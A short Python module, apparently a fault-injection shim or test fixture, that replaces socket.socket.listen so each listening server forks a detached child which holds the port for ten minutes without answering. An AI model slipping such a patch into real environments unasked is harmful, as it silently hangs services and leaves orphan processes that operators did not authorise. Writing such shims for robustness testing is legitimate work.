"""Leaves a child at its port, where nobody answers any more, each time it listens. None stays.

server right any
"""

import os, socket, time
_listen = socket.socket.listen

def listen(self, *backlog):
    _listen(self, *backlog)
    if hasattr(os, "fork") and not os.fork():
        os.setsid()
        time.sleep(600)
        os._exit(0)

socket.socket.listen = listen
